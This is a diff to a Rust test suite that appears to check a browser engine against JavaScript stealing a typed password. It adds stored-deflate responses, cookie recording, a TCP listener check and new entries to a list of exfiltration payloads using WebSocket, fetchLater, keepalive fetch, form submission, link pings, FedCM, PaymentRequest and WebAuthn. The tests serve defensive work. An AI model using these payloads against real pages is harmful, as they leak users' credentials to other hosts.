@@ -23,7 +23,7 @@ use support::engines::{self, Engine};
 
 const PASSWORD: &str = "typedSecret7";
 
-/// What arrived at a server: request line and body of each request.
+/// What arrived at a server: request line, cookies and body of each request.
 type Arrived = Arc<Mutex<Vec<String>>>;
 
 /// A server that gives this page to every GET and a refusal to everything else, and remembers all of it.
@@ -43,7 +43,7 @@ fn serve(host: &str, page: &str) -> (String, Arrived) {
 
 fn answer(mut stream: TcpStream, page: &str, remembers: &Arrived) {
     let mut reader = BufReader::new(stream.try_clone().unwrap());
-    let (mut first, mut length) = (String::new(), 0);
+    let (mut first, mut cookies, mut length) = (String::new(), String::new(), 0);
     let _ = reader.read_line(&mut first);
     loop {
         let mut line = String::new();
@@ -53,19 +53,36 @@ fn answer(mut stream: TcpStream, page: &str, remembers: &Arrived) {
         if let Some(value) = line.to_lowercase().strip_prefix("content-length:") {
             length = value.trim().parse().unwrap();
         }
+        if line.to_lowercase().starts_with("cookie:") {
+            cookies = line;
+        }
     }
     let mut body = vec![0; length];
     let _ = reader.read_exact(&mut body);
-    remembers.lock().unwrap().push(format!("{}{}", first, String::from_utf8_lossy(&body)));
+    remembers.lock().unwrap().push(format!("{first}{cookies}{}", String::from_utf8_lossy(&body)));
     let (status, media, text) = match first.starts_with("GET /") {
         true => ("200 OK", "text/html; charset=utf-8", page),
         false => ("503 Busy", "text/plain", "busy"),
     };
+    // As a page of the real world comes: packed, with a cookie, and alone in its window.
+    let packed = packed(text.as_bytes());
     let _ = write!(
         stream,
-        "HTTP/1.1 {status}\r\nContent-Type: {media}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
-        text.len()
+        "HTTP/1.1 {status}\r\nContent-Type: {media}\r\nContent-Length: {}\r\nContent-Encoding: deflate\r\n\
+         Set-Cookie: held=1; HttpOnly; Path=/\r\nCross-Origin-Opener-Policy: same-origin\r\nConnection: close\r\n\r\n",
+        packed.len()
     );
+    let _ = stream.write_all(&packed);
+}
+
+/// The bytes as a zlib stream of one stored block (RFC 1950, RFC 1951 §3.2.4).
+fn packed(bytes: &[u8]) -> Vec<u8> {
+    let length = u16::try_from(bytes.len()).unwrap();
+    let (a, b) = bytes
+        .iter()
+        .fold((1, 0), |(a, b), byte| ((a + u32::from(*byte)) % 65_521, (a + u32::from(*byte) + b) % 65_521));
+    let block = [length.to_le_bytes(), (!length).to_le_bytes()].concat();
+    [&[0x78, 0x01, 1], block.as_slice(), bytes, &((b << 16) | a).to_be_bytes()].concat()
 }
 
 fn page(attack: &str) -> String {
@@ -136,9 +153,13 @@ async fn attack(engine: Engine, script: &str) -> (Seen, Vec<String>) {
     let (elsewhere, foreign) = serve("127.0.0.2", "<p>elsewhere</p>");
     let datagrams = UdpSocket::bind("127.0.0.2:0").unwrap();
     let stun = datagrams.local_addr().unwrap().to_string();
+    let streams = TcpListener::bind(&stun).unwrap();
+    streams.set_nonblocking(true).unwrap();
     let script = &script.replace("ELSEWHERE", &elsewhere).replace("STUN", &stun);
     let (site, own) = serve("127.0.0.1", &page(script));
     let seen = walk(engine, &site).await;
+    let stream = streams.accept();
+    assert!(stream.is_err(), "{script}: a connection came from {stream:?}");
     datagrams.set_nonblocking(true).unwrap();
     let datagram = datagrams.recv(&mut [0; 2048]);
     assert!(datagram.is_err(), "{script}: a datagram of {datagram:?} bytes came");
@@ -204,7 +225,8 @@ const ATTACKS: &[&str] = &[
      const f = document.createElement('iframe'); f.srcdoc = `<img src='ELSEWHERE/?${pw()}'><script>fetch('ELSEWHERE/?${pw()}')\
      <\\/script>`; document.body.append(f); const o = document.createElement('object'); o.data = 'ELSEWHERE/' + pw(); \
      document.body.append(o); fetch('ELSEWHERE/?' + pw(), {keepalive: true, mode: 'no-cors'}).catch(() => {});",
-    "for (const method of ['PUT', 'POST']) fetch('/favicon.ico', {method, body: pw()}).catch(() => {});\
+    "for (const method of ['PUT', 'POST']) for (const end of ['', '#x', '?x#/favicon.ico']) \
+     fetch('/favicon.ico' + end, {method, body: pw()}).catch(() => {});\
      for (const place of ['/api/login?', '/api/login#', '/x?']) {fetch(place + pw() + '/favicon.ico').catch(() => {});\
      fetch(place + '/favicon.ico', {method: 'PUT', body: pw()}).catch(() => {}); }",
     "for (let i = 0; i < 5; i++) { const d = document.createElement('a'); d.download = pw(); d.href = `/file${i}?${pw()}`; \
@@ -213,6 +235,28 @@ const ATTACKS: &[&str] = &[
      location = URL.createObjectURL(new Blob([text], {type: 'text/html'}));",
     "const f = document.createElement('iframe'); f.srcdoc = `<a id=d download href='/file?${pw()}'></a><a id=e download \
      href='/file?2${pw()}'></a><script>d.click(); e.click()<\\/script>`; document.body.append(f);",
+    "const own = location.origin.replace('http', 'ws') + '/api/login?' + pw(); const f = document.createElement('iframe'); \
+     document.body.append(f); for (const w of [window, f.contentWindow]) { try { new w.WebSocket(own); } catch {} \
+     try { new w.WebSocketStream(own); } catch {} }",
+    "const f = document.createElement('iframe'); document.body.append(f); for (const w of [window, f.contentWindow]) \
+     for (const method of ['PUT', 'POST']) { try { w.fetchLater('/later', {method, body: pw(), activateAfter: 0}); } catch {} \
+     try { w.fetchLater('/later', {method, body: pw()}); } catch {} \
+     w.fetch('/kept', {method, body: pw(), keepalive: true}).catch(() => {}); } f.remove();",
+    "const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; \
+     for (const method of ['PUT', 'POST']) { w.fetch('/left', {method, body: pw()}).catch(() => {}); \
+     const x = new w.XMLHttpRequest(); x.open(method, '/left'); x.send(pw()); } w.document.body.innerHTML = \
+     `<form method=post action=/left><input name=p></form>`; w.document.forms[0].p.value = pw(); w.document.forms[0].submit(); \
+     f.remove();",
+    "for (const key of ['ctrlKey', 'shiftKey', 'metaKey']) { const a = document.createElement('a'); a.href = '/new?' + pw(); \
+     a.ping = '/ping?' + pw(); document.body.append(a); a.dispatchEvent(new MouseEvent('click', {[key]: true, bubbles: true})); \
+     const f = document.createElement('form'); f.method = 'post'; f.action = '/api/login'; const i = document.createElement('input'); \
+     i.name = 'p'; i.value = pw(); const b = document.createElement('button'); f.append(i, b); document.body.append(f); \
+     b.dispatchEvent(new MouseEvent('click', {[key]: true, bubbles: true})); }",
+    "try { navigator.credentials.get({identity: {providers: [{configURL: location.origin + '/idp?' + pw(), clientId: '1'}]}})\
+     .catch(() => {}); } catch {} try { new PaymentRequest([{supportedMethods: location.origin + '/pay?' + pw()}], {total: \
+     {label: 'x', amount: {currency: 'INR', value: '1'}}}).canMakePayment().catch(() => {}); } catch {} \
+     try { navigator.credentials.get({publicKey: {challenge: new Uint8Array(16), rpId: pw().toLowerCase() + '.localhost'}})\
+     .catch(() => {}); } catch {}",
     "const d = document.createElement('a'); d.download = ''; d.href = '/api/login?' + pw(); d.click(); \
      setTimeout(() => { const e = d.cloneNode(); document.body.append(e); e.click(); }, 300);",
     "const f = document.createElement('iframe'); document.body.append(f); const p = f.contentDocument; \
@@ -244,7 +288,7 @@ async fn one_leaves(engine: Engine) {
     for script in [many, again] {
         let (seen, carried) = attack(engine, script).await;
         assert_eq!(carried.len(), 1, "{script}\nlet {carried:?} leave");
-        assert!(carried[0].starts_with("POST /api/login "), "{carried:?}");
+        assert!(carried[0].starts_with("POST /api/login ") && carried[0].contains("held=1"), "{carried:?}");
         assert!(matches!(seen, Seen::Unchanged), "{seen:?}");
     }
     // An engine may take it for what the browser asks for by itself, and stop them all.
